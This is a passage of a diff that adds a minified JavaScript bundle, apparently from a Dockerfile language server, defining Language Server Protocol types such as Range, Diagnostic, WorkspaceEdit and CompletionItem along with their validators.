@@ -1,0 +1,4269 @@
+"use strict";var Vy=Object.create;var Vs=Object.defineProperty;var zy=Object.getOwnPropertyDescriptor;var Jy=Object.getOwnPropertyNames;var Ky=Object.getPrototypeOf,Xy=Object.prototype.hasOwnProperty;var up=(n,e,t)=>()=>{if(t)throw t[0];try{return n&&(e=n(n=0)),e}catch(s){throw t=[s],s}};var x=(n,e)=>()=>{try{return e||n((e={exports:{}}).exports,e),e.exports}catch(t){throw e=0,t}},Lo=(n,e)=>{for(var t in e)Vs(n,t,{get:e[t],enumerable:!0})},pp=(n,e,t,s)=>{if(e&&typeof e=="object"||typeof e=="function")for(let i of Jy(e))!Xy.call(n,i)&&i!==t&&Vs(n,i,{get:()=>e[i],enumerable:!(s=zy(e,i))||s.enumerable});return n};var U=(n,e,t)=>(t=n!=null?Vy(Ky(n)):{},pp(e||!n||!n.__esModule?Vs(t,"default",{value:n,enumerable:!0}):t,n)),me=n=>pp(Vs({},"__esModule",{value:!0}),n);var on=x(Ks=>{"use strict";Object.defineProperty(Ks,"__esModule",{value:!0});Ks.Argument=void 0;var _o=class{constructor(e,t){this.value=e,this.range=t}toString(){return this.value}getRange(){return this.range}getValue(){return this.value}isAfter(e){return this.range.end.line<e.line?!1:this.range.start.line>e.line?!0:this.range.start.character>e.character}isBefore(e){return this.range.start.line<e.line?!0:this.range.end.line>e.line?!1:this.range.end.character<e.character}};Ks.Argument=_o});var Io=x(Xs=>{"use strict";Object.defineProperty(Xs,"__esModule",{value:!0});Xs.JSONArgument=void 0;var ab=on(),$o=class extends ab.Argument{constructor(e,t,s){super(e,t),this.jsonRange=s}getJSONRange(){return this.jsonRange}getJSONValue(){let e=super.getValue();return e=e.substring(1,e.length-1),e}};Xs.JSONArgument=$o});var Me={};Lo(Me,{AnnotatedTextEdit:()=>Xe,ApplyKind:()=>oa,ChangeAnnotation:()=>ut,ChangeAnnotationIdentifier:()=>ie,CodeAction:()=>xa,CodeActionContext:()=>ka,CodeActionKind:()=>va,CodeActionTag:()=>ii,CodeActionTriggerKind:()=>Kn,CodeDescription:()=>zo,CodeLens:()=>Ra,Color:()=>Qs,ColorInformation:()=>Ho,ColorPresentation:()=>Yo,Command:()=>Ct,CompletionItem:()=>ca,CompletionItemKind:()=>ta,CompletionItemLabelDetails:()=>aa,CompletionItemTag:()=>sa,CompletionList:()=>la,CreateFile:()=>cn,DeleteFile:()=>un,Diagnostic:()=>Gn,DiagnosticRelatedInformation:()=>ei,DiagnosticSeverity:()=>Go,DiagnosticTag:()=>Vo,DocumentHighlight:()=>ga,DocumentHighlightKind:()=>fa,DocumentLink:()=>Sa,DocumentSymbol:()=>wa,DocumentUri:()=>Po,EOL:()=>cb,FoldingRange:()=>Wo,FoldingRangeKind:()=>Bo,FormattingOptions:()=>Oa,Hover:()=>ua,InlayHint:()=>Ta,InlayHintKind:()=>ri,InlayHintLabelPart:()=>oi,InlineCompletionContext:()=>Pa,InlineCompletionItem:()=>ja,InlineCompletionList:()=>_a,InlineCompletionTriggerKind:()=>$a,InlineValueContext:()=>Da,InlineValueEvaluatableExpression:()=>La,InlineValueText:()=>Fa,InlineValueVariableLookup:()=>Ca,InsertReplaceEdit:()=>ia,InsertTextFormat:()=>na,InsertTextMode:()=>ra,LanguageKind:()=>Qo,Location:()=>Wn,LocationLink:()=>Uo,MarkedString:()=>Jn,MarkupContent:()=>pt,MarkupKind:()=>si,OptionalVersionedTextDocumentIdentifier:()=>zn,ParameterInformation:()=>pa,Position:()=>Fe,Range:()=>K,RenameFile:()=>ln,SelectedCompletionInfo:()=>Ia,SelectionRange:()=>Ma,SemanticTokenModifiers:()=>Na,SemanticTokenTypes:()=>Aa,SemanticTokens:()=>Ea,SignatureInformation:()=>da,SnippetTextEdit:()=>Jo,StringValue:()=>ai,SymbolInformation:()=>ya,SymbolKind:()=>ma,SymbolTag:()=>ha,TextDocument:()=>Ua,TextDocumentEdit:()=>Vn,TextDocumentIdentifier:()=>Xo,TextDocumentItem:()=>ea,TextEdit:()=>He,URI:()=>Zs,VersionedTextDocumentIdentifier:()=>Zo,WorkspaceChange:()=>Ko,WorkspaceEdit:()=>ti,WorkspaceFolder:()=>qa,WorkspaceSymbol:()=>ba,integer:()=>qo,uinteger:()=>Bn});var Po,Zs,qo,Bn,Fe,K,Wn,Uo,Qs,Ho,Yo,Bo,Wo,ei,Go,Vo,zo,Gn,Ct,He,ut,ie,Xe,Vn,cn,ln,un,ti,an,Jo,ni,Ko,Xo,Zo,zn,Qo,ea,si,pt,ta,na,sa,ia,ra,oa,aa,ca,la,Jn,ua,pa,da,fa,ga,ma,ha,ya,ba,wa,va,Kn,ka,ii,xa,Ra,Oa,Sa,Ma,Aa,Na,Ea,Fa,Ca,La,Da,ri,oi,Ta,ai,ja,_a,$a,Ia,Pa,qa,cb,Ua,Ha,b,Ae=up(()=>{"use strict";(function(n){function e(t){return typeof t=="string"}n.is=e})(Po||(Po={}));(function(n){function e(t){return typeof t=="string"}n.is=e})(Zs||(Zs={}));(function(n){n.MIN_VALUE=-2147483648,n.MAX_VALUE=2147483647;function e(t){return typeof t=="number"&&n.MIN_VALUE<=t&&t<=n.MAX_VALUE}n.is=e})(qo||(qo={}));(function(n){n.MIN_VALUE=0,n.MAX_VALUE=2147483647;function e(t){return typeof t=="number"&&n.MIN_VALUE<=t&&t<=n.MAX_VALUE}n.is=e})(Bn||(Bn={}));(function(n){function e(s,i){return s===Number.MAX_VALUE&&(s=Bn.MAX_VALUE),i===Number.MAX_VALUE&&(i=Bn.MAX_VALUE),{line:s,character:i}}n.create=e;function t(s){let i=s;return b.objectLiteral(i)&&b.uinteger(i.line)&&b.uinteger(i.character)}n.is=t})(Fe||(Fe={}));(function(n){function e(s,i,r,o){if(b.uinteger(s)&&b.uinteger(i)&&b.uinteger(r)&&b.uinteger(o))return{start:Fe.create(s,i),end:Fe.create(r,o)};if(Fe.is(s)&&Fe.is(i))return{start:s,end:i};throw new Error(`Range#create called with invalid arguments[${s}, ${i}, ${r}, ${o}]`)}n.create=e;function t(s){let i=s;return b.objectLiteral(i)&&Fe.is(i.start)&&Fe.is(i.end)}n.is=t})(K||(K={}));(function(n){function e(s,i){return{uri:s,range:i}}n.create=e;function t(s){let i=s;return b.objectLiteral(i)&&K.is(i.range)&&(b.string(i.uri)||b.undefined(i.uri))}n.is=t})(Wn||(Wn={}));(function(n){function e(s,i,r,o){return{targetUri:s,targetRange:i,targetSelectionRange:r,originSelectionRange:o}}n.create=e;function t(s){let i=s;return b.objectLiteral(i)&&K.is(i.targetRange)&&b.string(i.targetUri)&&K.is(i.targetSelectionRange)&&(K.is(i.originSelectionRange)||b.undefined(i.originSelectionRange))}n.is=t})(Uo||(Uo={}));(function(n){function e(s,i,r,o){return{red:s,green:i,blue:r,alpha:o}}n.create=e;function t(s){let i=s;return b.objectLiteral(i)&&b.numberRange(i.red,0,1)&&b.numberRange(i.green,0,1)&&b.numberRange(i.blue,0,1)&&b.numberRange(i.alpha,0,1)}n.is=t})(Qs||(Qs={}));(function(n){function e(s,i){return{range:s,color:i}}n.create=e;function t(s){let i=s;return b.objectLiteral(i)&&K.is(i.range)&&Qs.is(i.color)}n.is=t})(Ho||(Ho={}));(function(n){function e(s,i,r){return{label:s,textEdit:i,additionalTextEdits:r}}n.create=e;function t(s){let i=s;return b.objectLiteral(i)&&b.string(i.label)&&(b.undefined(i.textEdit)||He.is(i.textEdit))&&(b.undefined(i.additionalTextEdits)||b.typedArray(i.additionalTextEdits,He.is))}n.is=t})(Yo||(Yo={}));(function(n){n.Comment="comment",n.Imports="imports",n.Region="region"})(Bo||(Bo={}));(function(n){function e(s,i,r,o,a,c){let l={startLine:s,endLine:i};return b.defined(r)&&(l.startCharacter=r),b.defined(o)&&(l.endCharacter=o),b.defined(a)&&(l.kind=a),b.defined(c)&&(l.collapsedText=c),l}n.create=e;function t(s){let i=s;return b.objectLiteral(i)&&b.uinteger(i.startLine)&&b.uinteger(i.endLine)&&(b.undefined(i.startCharacter)||b.uinteger(i.startCharacter))&&(b.undefined(i.endCharacter)||b.uinteger(i.endCharacter))&&(b.undefined(i.kind)||b.string(i.kind))}n.is=t})(Wo||(Wo={}));(function(n){function e(s,i){return{location:s,message:i}}n.create=e;function t(s){let i=s;return b.defined(i)&&Wn.is(i.location)&&b.string(i.message)}n.is=t})(ei||(ei={}));(function(n){n.Error=1,n.Warning=2,n.Information=3,n.Hint=4})(Go||(Go={}));(function(n){n.Unnecessary=1,n.Deprecated=2})(Vo||(Vo={}));(function(n){function e(t){let s=t;return b.objectLiteral(s)&&b.string(s.href)}n.is=e})(zo||(zo={}));(function(n){function e(r,o,a,c,l,u){let p={range:r,message:o};return b.defined(a)&&(p.severity=a),b.defined(c)&&(p.code=c),b.defined(l)&&(p.source=l),b.defined(u)&&(p.relatedInformation=u),p}n.create=e;function t(r){var o;let a=r;return b.defined(a)&&K.is(a.range)&&(b.string(a.message)||pt.is(a.message))&&(b.number(a.severity)||b.undefined(a.severity))&&(b.integer(a.code)||b.string(a.code)||b.undefined(a.code))&&(b.undefined(a.codeDescription)||b.string((o=a.codeDescription)===null||o===void 0?void 0:o.href))&&(b.string(a.source)||b.undefined(a.source))&&(b.undefined(a.relatedInformation)||b.typedArray(a.relatedInformation,ei.is))}n.is=t;function s(r){return b.string(r.message)}n.is3_17=s;function i(r){if(b.string(r.message))return r.message;if(pt.is(r.message))return r.message.value;throw new Error(`Unknown message type ${typeof r.message}`)}n.getMessageString=i})(Gn||(Gn={}));(function(n){function e(s,i,...r){let o={title:s,command:i};return b.defined(r)&&r.length>0&&(o.arguments=r),o}n.create=e;function t(s){let i=s;return b.defined(i)&&b.string(i.title)&&(i.tooltip===void 0||b.string(i.tooltip))&&b.string(i.command)}n.is=t})(Ct||(Ct={}));(function(n){function e(r,o){return{range:r,newText:o}}n.replace=e;function t(r,o){return{range:{start:r,end:r},newText:o}}n.insert=t;function s(r){return{range:r,newText:""}}n.del=s;function i(r){let o=r;return b.objectLiteral(o)&&b.string(o.newText)&&K.is(o.range)}n.is=i})(He||(He={}));(function(n){function e(s,i,r){let o={label:s};return i!==void 0&&(o.needsConfirmation=i),r!==void 0&&(o.description=r),o}n.create=e;function t(s){let i=s;return b.objectLiteral(i)&&b.string(i.label)&&(b.boolean(i.needsConfirmation)||i.needsConfirmation===void 0)&&(b.string(i.description)||i.description===void 0)}n.is=t})(ut||(ut={}));(function(n){function e(t){let s=t;return b.string(s)}n.is=e})(ie||(ie={}));(function(n){function e(r,o,a){return{range:r,newText:o,annotationId:a}}n.replace=e;function t(r,o,a){return{range:{start:r,end:r},newText:o,annotationId:a}}n.insert=t;function s(r,o){return{range:r,newText:"",annotationId:o}}n.del=s;function i(r){let o=r;return He.is(o)&&(ut.is(o.annotationId)||ie.is(o.annotationId))}n.is=i})(Xe||(Xe={}));(function(n){function e(s,i){return{textDocument:s,edits:i}}n.create=e;function t(s){let i=s;return b.defined(i)&&zn.is(i.textDocument)&&Array.isArray(i.edits)}n.is=t})(Vn||(Vn={}));(function(n){function e(s,i,r){let o={kind:"create",uri:s};return i!==void 0&&(i.overwrite!==void 0||i.ignoreIfExists!==void 0)&&(o.options=i),r!==void 0&&(o.annotationId=r),o}n.create=e;function t(s){let i=s;return i&&i.kind==="create"&&b.string(i.uri)&&(i.options===void 0||(i.options.overwrite===void 0||b.boolean(i.options.overwrite))&&(i.options.ignoreIfExists===void 0||b.boolean(i.options.ignoreIfExists)))&&(i.annotationId===void 0||ie.is(i.annotationId))}n.is=t})(cn||(cn={}));(function(n){function e(s,i,r,o){let a={kind:"rename",oldUri:s,newUri:i};return r!==void 0&&(r.overwrite!==void 0||r.ignoreIfExists!==void 0)&&(a.options=r),o!==void 0&&(a.annotationId=o),a}n.create=e;function t(s){let i=s;return i&&i.kind==="rename"&&b.string(i.oldUri)&&b.string(i.newUri)&&(i.options===void 0||(i.options.overwrite===void 0||b.boolean(i.options.overwrite))&&(i.options.ignoreIfExists===void 0||b.boolean(i.options.ignoreIfExists)))&&(i.annotationId===void 0||ie.is(i.annotationId))}n.is=t})(ln||(ln={}));(function(n){function e(s,i,r){let o={kind:"delete",uri:s};return i!==void 0&&(i.recursive!==void 0||i.ignoreIfNotExists!==void 0)&&(o.options=i),r!==void 0&&(o.annotationId=r),o}n.create=e;function t(s){let i=s;return i&&i.kind==="delete"&&b.string(i.uri)&&(i.options===void 0||(i.options.recursive===void 0||b.boolean(i.options.recursive))&&(i.options.ignoreIfNotExists===void 0||b.boolean(i.options.ignoreIfNotExists)))&&(i.annotationId===void 0||ie.is(i.annotationId))}n.is=t})(un||(un={}));(function(n){function e(t){let s=t;return s&&(s.changes!==void 0||s.documentChanges!==void 0)&&(s.documentChanges===void 0||s.documentChanges.every(i=>b.string(i.kind)?cn.is(i)||ln.is(i)||un.is(i):Vn.is(i)))}n.is=e})(ti||(ti={}));an=class{constructor(e,t){this.edits=e,this.changeAnnotations=t}insert(e,t,s){let i,r;if(s===void 0?i=He.insert(e,t):ie.is(s)?(r=s,i=Xe.insert(e,t,s)):(this.assertChangeAnnotations(this.changeAnnotations),r=this.changeAnnotations.manage(s),i=Xe.insert(e,t,r)),this.edits.push(i),r!==void 0)return r}replace(e,t,s){let i,r;if(s===void 0?i=He.replace(e,t):ie.is(s)?(r=s,i=Xe.replace(e,t,s)):(this.assertChangeAnnotations(this.changeAnnotations),r=this.changeAnnotations.manage(s),i=Xe.replace(e,t,r)),this.edits.push(i),r!==void 0)return r}delete(e,t){let s,i;if(t===void 0?s=He.del(e):ie.is(t)?(i=t,s=Xe.del(e,t)):(this.assertChangeAnnotations(this.changeAnnotations),i=this.changeAnnotations.manage(t),s=Xe.del(e,i)),this.edits.push(s),i!==void 0)return i}add(e){this.edits.push(e)}all(){return this.edits}clear(){this.edits.splice(0,this.edits.length)}assertChangeAnnotations(e){if(e===void 0)throw new Error("Text edit change is not configured to manage change annotations.")}};(function(n){function e(t){let s=t;return b.objectLiteral(s)&&K.is(s.range)&&ai.isSnippet(s.snippet)&&(s.annotationId===void 0||ut.is(s.annotationId)||ie.is(s.annotationId))}n.is=e})(Jo||(Jo={}));ni=class{constructor(e){this._annotations=e===void 0?Object.create(null):e,this._counter=0,this._size=0}all(){return this._annotations}get size(){return this._size}manage(e,t){let s;if(ie.is(e)?s=e:(s=this.nextId(),t=e),this._annotations[s]!==void 0)throw new Error(`Id ${s} is already in use.`);if(t===void 0)throw new Error(`No annotation provided for id ${s}`);return this._annotations[s]=t,this._size++,s}nextId(){return this._counter++,this._counter.toString()}},Ko=class{constructor(e){this._textEditChanges=Object.create(null),e!==void 0?(this._workspaceEdit=e,e.documentChanges?(this._changeAnnotations=new ni(e.changeAnnotations),e.changeAnnotations=this._changeAnnotations.all(),e.documentChanges.forEach(t=>{if(Vn.is(t)){let s=new an(t.edits,this._changeAnnotations);this._textEditChanges[t.textDocument.uri]=s}})):e.changes&&Object.keys(e.changes).forEach(t=>{let s=new an(e.changes[t]);this._textEditChanges[t]=s})):this._workspaceEdit={}}get edit(){return this.initDocumentChanges(),this._changeAnnotations!==void 0&&(this._changeAnnotations.size===0?this._workspaceEdit.changeAnnotations=void 0:this._workspaceEdit.changeAnnotations=this._changeAnnotations.all()),this._workspaceEdit}getTextEditChange(e){if(zn.is(e)){if(this.initDocumentChanges(),this._workspaceEdit.documentChanges===void 0)throw new Error("Workspace edit is not configured for document changes.");let t={uri:e.uri,version:e.version},s=this._textEditChanges[t.uri];if(!s){let i=[],r={textDocument:t,edits:i};this._workspaceEdit.documentChanges.push(r),s=new an(i,this._changeAnnotations),this._textEditChanges[t.uri]=s}return s}else{if(this.initChanges(),this._workspaceEdit.changes===void 0)throw new Error("Workspace edit is not configured for normal text edit changes.");let t=this._textEditChanges[e];if(!t){let s=[];this._workspaceEdit.changes[e]=s,t=new an(s),this._textEditChanges[e]=t}return t}}initDocumentChanges(){this._workspaceEdit.documentChanges===void 0&&this._workspaceEdit.changes===void 0&&(this._changeAnnotations=new ni,this._workspaceEdit.documentChanges=[],this._workspaceEdit.changeAnnotations=this._changeAnnotations.all())}initChanges(){this._workspaceEdit.documentChanges===void 0&&this._workspaceEdit.changes===void 0&&(this._workspaceEdit.changes=Object.create(null))}createFile(e,t,s){if(this.initDocumentChanges(),this._workspaceEdit.documentChanges===void 0)throw new Error("Workspace edit is not configured for document changes.");let i;ut.is(t)||ie.is(t)?i=t:s=t;let r,o;if(i===void 0?r=cn.create(e,s):(o=ie.is(i)?i:this._changeAnnotations.manage(i),r=cn.create(e,s,o)),this._workspaceEdit.documentChanges.push(r),o!==void 0)return o}renameFile(e,t,s,i){if(this.initDocumentChanges(),this._workspaceEdit.documentChanges===void 0)throw new Error("Workspace edit is not configured for document changes.");let r;ut.is(s)||ie.is(s)?r=s:i=s;let o,a;if(r===void 0?o=ln.create(e,t,i):(a=ie.is(r)?r:this._changeAnnotations.manage(r),o=ln.create(e,t,i,a)),this._workspaceEdit.documentChanges.push(o),a!==void 0)return a}deleteFile(e,t,s){if(this.initDocumentChanges(),this._workspaceEdit.documentChanges===void 0)throw new Error("Workspace edit is not configured for document changes.");let i;ut.is(t)||ie.is(t)?i=t:s=t;let r,o;if(i===void 0?r=un.create(e,s):(o=ie.is(i)?i:this._changeAnnotations.manage(i),r=un.create(e,s,o)),this._workspaceEdit.documentChanges.push(r),o!==void 0)return o}};(function(n){function e(s){return{uri:s}}n.create=e;function t(s){let i=s;return b.defined(i)&&b.string(i.uri)}n.is=t})(Xo||(Xo={}));(function(n){function e(s,i){return{uri:s,version:i}}n.create=e;function t(s){let i=s;return b.defined(i)&&b.string(i.uri)&&b.integer(i.version)}n.is=t})(Zo||(Zo={}));(function(n){function e(s,i){return{uri:s,version:i}}n.create=e;function t(s){let i=s;return b.defined(i)&&b.string(i.uri)&&(i.version===null||b.integer(i.version))}n.is=t})(zn||(zn={}));(function(n){n.ABAP="abap",n.WindowsBat="bat",n.BibTeX="bibtex",n.Clojure="clojure",n.Coffeescript="coffeescript",n.C="c",n.CPP="cpp",n.CSharp="csharp",n.CSS="css",n.D="d",n.Delphi="pascal",n.Diff="diff",n.Dart="dart",n.Dockerfile="dockerfile",n.Elixir="elixir",n.Erlang="erlang",n.FSharp="fsharp",n.GitCommit="git-commit",n.GitRebase="git-rebase",n.Go="go",n.Groovy="groovy",n.Handlebars="handlebars",n.Haskell="haskell",n.HTML="html",n.Ini="ini",n.Java="java",n.JavaScript="javascript",n.JavaScriptReact="javascriptreact",n.JSON="json",n.LaTeX="latex",n.Less="less",n.Lua="lua",n.Makefile="makefile",n.Markdown="markdown",n.ObjectiveC="objective-c",n.ObjectiveCPP="objective-cpp",n.Pascal="pascal",n.Perl="perl",n.Perl6="perl6",n.PHP="php",n.Plaintext="plaintext",n.Powershell="powershell",n.Pug="jade",n.Python="python",n.R="r",n.Razor="razor",n.Ruby="ruby",n.Rust="rust",n.SCSS="scss",n.SASS="sass",n.Scala="scala",n.ShaderLab="shaderlab",n.ShellScript="shellscript",n.SQL="sql",n.Swift="swift",n.TypeScript="typescript",n.TypeScriptReact="typescriptreact",n.TeX="tex",n.VisualBasic="vb",n.XML="xml",n.XSL="xsl",n.YAML="yaml"})(Qo||(Qo={}));(function(n){function e(s,i,r,o){return{uri:s,languageId:i,version:r,text:o}}n.create=e;function t(s){let i=s;return b.defined(i)&&b.string(i.uri)&&b.string(i.languageId)&&b.integer(i.version)&&b.string(i.text)}n.is=t})(ea||(ea={}));(function(n){n.PlainText="plaintext",n.Markdown="markdown";function e(t){let s=t;return s===n.PlainText||s===n.Markdown}n.is=e})(si||(si={}));(function(n){function e(t){let s=t;return b.objectLiteral(t)&&si.is(s.kind)&&b.string(s.value)}n.is=e})(pt||(pt={}));(function(n){n.Text=1,n.Method=2,n.Function=3,n.Constructor=4,n.Field=5,n.Variable=6,n.Class=7,n.Interface=8,n.Module=9,n.Property=10,n.Unit=11,n.Value=12,n.Enum=13,n.Keyword=14,n.Snippet=15,n.Color=16,n.File=17,n.Reference=18,n.Folder=19,n.EnumMember=20,n.Constant=21,n.Struct=22,n.Event=23,n.Operator=24,n.TypeParameter=25})(ta||(ta={}));(function(n){n.PlainText=1,n.Snippet=2})(na||(na={}));(function(n){n.Deprecated=1})(sa||(sa={}));(function(n){function e(s,i,r){return{newText:s,insert:i,replace:r}}n.create=e;function t(s){let i=s;return i&&b.string(i.newText)&&K.is(i.insert)&&K.is(i.replace)}n.is=t})(ia||(ia={}));(function(n){n.asIs=1,n.adjustIndentation=2})(ra||(ra={}));(function(n){n.Replace=1,n.Merge=2})(oa||(oa={}));(function(n){function e(t){let s=t;return s&&(b.string(s.detail)||s.detail===void 0)&&(b.string(s.description)||s.description===void 0)}n.is=e})(aa||(aa={}));(function(n){function e(t){return{label:t}}n.create=e})(ca||(ca={}));(function(n){function e(t,s){return{items:t||[],isIncomplete:!!s}}n.create=e})(la||(la={}));(function(n){function e(s){return s.replace(/[\\`*_{}[\]()#+\-.!]/g,"\\$&")}n.fromPlainText=e;function t(s){let i=s;return b.string(i)||b.objectLiteral(i)&&b.string(i.language)&&b.string(i.value)}n.is=t})(Jn||(Jn={}));(function(n){function e(t){let s=t;return!!s&&b.objectLiteral(s)&&(pt.is(s.contents)||Jn.is(s.contents)||b.typedArray(s.contents,Jn.is))&&(t.range===void 0||K.is(t.range))}n.is=e})(ua||(ua={}));(function(n){function e(t,s){return s?{label:t,documentation:s}:{label:t}}n.create=e})(pa||(pa={}));(function(n){function e(t,s,...i){let r={label:t};return b.defined(s)&&(r.documentation=s),b.defined(i)?r.parameters=i:r.parameters=[],r}n.create=e})(da||(da={}));(function(n){n.Text=1,n.Read=2,n.Write=3})(fa||(fa={}));(function(n){function e(t,s){let i={range:t};return b.number(s)&&(i.kind=s),i}n.create=e})(ga||(ga={}));(function(n){n.File=1,n.Module=2,n.Namespace=3,n.Package=4,n.Class=5,n.Method=6,n.Property=7,n.Field=8,n.Constructor=9,n.Enum=10,n.Interface=11,n.Function=12,n.Variable=13,n.Constant=14,n.String=15,n.Number=16,n.Boolean=17,n.Array=18,n.Object=19,n.Key=20,n.Null=21,n.EnumMember=22,n.Struct=23,n.Event=24,n.Operator=25,n.TypeParameter=26})(ma||(ma={}));(function(n){n.Deprecated=1})(ha||(ha={}));(function(n){function e(t,s,i,r,o){let a={name:t,kind:s,location:{uri:r,range:i}};return o&&(a.containerName=o),a}n.create=e})(ya||(ya={}));(function(n){function e(t,s,i,r){return r!==void 0?{name:t,kind:s,location:{uri:i,range:r}}:{name:t,kind:s,location:{uri:i}}}n.create=e})(ba||(ba={}));(function(n){function e(s,i,r,o,a,c){let l={name:s,detail:i,kind:r,range:o,selectionRange:a};return c!==void 0&&(l.children=c),l}n.create=e;function t(s){let i=s;return i&&b.string(i.name)&&b.number(i.kind)&&K.is(i.range)&&K.is(i.selectionRange)&&(i.detail===void 0||b.string(i.detail))&&(i.deprecated===void 0||b.boolean(i.deprecated))&&(i.children===void 0||Array.isArray(i.children))&&(i.tags===void 0||Array.isArray(i.tags))}n.is=t})(wa||(wa={}));(function(n){n.Empty="",n.QuickFix="quickfix",n.Refactor="refactor",n.RefactorExtract="refactor.extract",n.RefactorInline="refactor.inline",n.RefactorMove="refactor.move",n.RefactorRewrite="refactor.rewrite",n.Source="source",n.SourceOrganizeImports="source.organizeImports",n.SourceFixAll="source.fixAll",n.Notebook="notebook"})(va||(va={}));(function(n){n.Invoked=1,n.Automatic=2})(Kn||(Kn={}));(function(n){function e(s,i,r){let o={diagnostics:s};return i!=null&&(o.only=i),r!=null&&(o.triggerKind=r),o}n.create=e;function t(s){let i=s;return b.defined(i)&&b.typedArray(i.diagnostics,Gn.is)&&(i.only===void 0||b.typedArray(i.only,b.string))&&(i.triggerKind===void 0||i.triggerKind===Kn.Invoked||i.triggerKind===Kn.Automatic)}n.is=t})(ka||(ka={}));(function(n){n.LLMGenerated=1;function e(t){return b.defined(t)&&t===n.LLMGenerated}n.is=e})(ii||(ii={}));(function(n){function e(s,i,r){let o={title:s},a=!0;return typeof i=="string"?(a=!1,o.kind=i):Ct.is(i)?o.command=i:o.edit=i,a&&r!==void 0&&(o.kind=r),o}n.create=e;function t(s){let i=s;return i&&b.string(i.title)&&(i.diagnostics===void 0||b.typedArray(i.diagnostics,Gn.is))&&(i.kind===void 0||b.string(i.kind))&&(i.edit!==void 0||i.command!==void 0)&&(i.command===void 0||Ct.is(i.command))&&(i.isPreferred===void 0||b.boolean(i.isPreferred))&&(i.edit===void 0||ti.is(i.edit))&&(i.tags===void 0||b.typedArray(i.tags,ii.is))}n.is=t})(xa||(xa={}));(function(n){function e(s,i){let r={range:s};return b.defined(i)&&(r.data=i),r}n.create=e;function t(s){let i=s;return b.defined(i)&&K.is(i.range)&&(b.undefined(i.command)||Ct.is(i.command))}n.is=t})(Ra||(Ra={}));(function(n){function e(s,i){return{tabSize:s,insertSpaces:i}}n.create=e;function t(s){let i=s;return b.defined(i)&&b.uinteger(i.tabSize)&&b.boolean(i.insertSpaces)}n.is=t})(Oa||(Oa={}));(function(n){function e(s,i,r){return{range:s,target:i,data:r}}n.create=e;function t(s){let i=s;return b.defined(i)&&K.is(i.range)&&(b.undefined(i.target)||b.string(i.target))}n.is=t})(Sa||(Sa={}));(function(n){function e(s,i){return{range:s,parent:i}}n.create=e;function t(s){let i=s;return b.objectLiteral(i)&&K.is(i.range)&&(i.parent===void 0||n.is(i.parent))}n.is=t})(Ma||(Ma={}));(function(n){n.namespace="namespace",n.type="type",n.class="class",n.enum="enum",n.interface="interface",n.struct="struct",n.typeParameter="typeParameter",n.parameter="parameter",n.variable="variable",n.property="property",n.enumMember="enumMember",n.event="event",n.function="function",n.method="method",n.macro="macro",n.keyword="keyword",n.modifier="modifier",n.comment="comment",n.string="string",n.number="number",n.regexp="regexp",n.operator="operator",n.decorator="decorator",n.label="label"})(Aa||(Aa={}));(function(n){n.declaration="declaration",n.definition="definition",n.readonly="readonly",n.static="static",n.deprecated="deprecated",n.abstract="abstract",n.async="async",n.modification="modification",n.documentation="documentation",n.defaultLibrary="defaultLibrary"})(Na||(Na={}));(function(n){function e(t){let s=t;return b.objectLiteral(s)&&(s.resultId===void 0||typeof s.resultId=="string")&&Array.isArray(s.data)&&(s.data.length===0||typeof s.data[0]=="number")}n.is=e})(Ea||(Ea={}));(function(n){function e(s,i){return{range:s,text:i}}n.create=e;function t(s){let i=s;return i!=null&&K.is(i.range)&&b.string(i.text)}n.is=t})(Fa||(Fa={}));(function(n){function e(s,i,r){return{range:s,variableName:i,caseSensitiveLookup:r}}n.create=e;function t(s){let i=s;return i!=null&&K.is(i.range)&&b.boolean(i.caseSensitiveLookup)&&(b.string(i.variableName)||i.variableName===void 0)}n.is=t})(Ca||(Ca={}));(function(n){function e(s,i){return{range:s,expression:i}}n.create=e;function t(s){let i=s;return i!=null&&K.is(i.range)&&(b.string(i.expression)||i.expression===void 0)}n.is=t})(La||(La={}));(function(n){function e(s,i){return{frameId:s,stoppedLocation:i}}n.create=e;function t(s){let i=s;return b.defined(i)&&K.is(s.stoppedLocation)}n.is=t})(Da||(Da={}));(function(n){n.Type=1,n.Parameter=2;function e(t){return t===1||t===2}n.is=e})(ri||(ri={}));(function(n){function e(s){return{value:s}}n.create=e;function t(s){let i=s;return b.objectLiteral(i)&&(i.tooltip===void 0||b.string(i.tooltip)||pt.is(i.tooltip))&&(i.location===void 0||Wn.is(i.location))&&(i.command===void 0||Ct.is(i.command))}n.is=t})(oi||(oi={}));(function(n){function e(s,i,r){let o={position:s,label:i};return r!==void 0&&(o.kind=r),o}n.create=e;function t(s){let i=s;return b.objectLiteral(i)&&Fe.is(i.position)&&(b.string(i.label)||b.typedArray(i.label,oi.is))&&(i.kind===void 0||ri.is(i.kind))&&i.textEdits===void 0||b.typedArray(i.textEdits,He.is)&&(i.tooltip===void 0||b.string(i.tooltip)||pt.is(i.tooltip))&&(i.paddingLeft===void 0||b.boolean(i.paddingLeft))&&(i.paddingRight===void 0||b.boolean(i.paddingRight))}n.is=t})(Ta||(Ta={}));(function(n){function e(s){return{kind:"snippet",value:s}}n.createSnippet=e;function t(s){let i=s;return b.objectLiteral(i)&&i.kind==="snippet"&&b.string(i.value)}n.isSnippet=t})(ai||(ai={}));(function(n){function e(t,s,i,r){return{insertText:t,filterText:s,range:i,command:r}}n.create=e})(ja||(ja={}));(function(n){function e(t){return{items:t}}n.create=e})(_a||(_a={}));(function(n){n.Invoked=1,n.Automatic=2})($a||($a={}));(function(n){function e(t,s){return{range:t,text:s}}n.create=e})(Ia||(Ia={}));(function(n){function e(t,s){return{triggerKind:t,selectedCompletionInfo:s}}n.create=e})(Pa||(Pa={}));(function(n){function e(t){let s=t;return b.objectLiteral(s)&&Zs.is(s.uri)&&b.string(s.name)}n.is=e})(qa||(qa={}));cb=[`
+`,`\r
